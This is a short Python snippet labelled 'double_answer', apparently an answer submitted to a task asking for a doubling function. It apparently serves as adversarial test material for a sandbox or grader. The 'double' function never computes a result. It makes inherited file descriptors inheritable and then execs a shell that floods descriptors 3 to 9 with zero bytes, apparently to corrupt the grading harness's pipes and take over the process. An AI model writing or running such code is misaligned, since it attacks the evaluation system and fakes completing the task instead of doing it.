# %% double_answer
import os

OTHER = "for number in 3 4 5 6 7 8 9; do head -c 100000 /dev/zero >&$number; done"


def double(x):
    for number in range(3, 256):
        try:
            os.set_inheritable(number, True)
        except OSError:
            pass
    os.execv("/bin/sh", ["sh", "-c", OTHER])
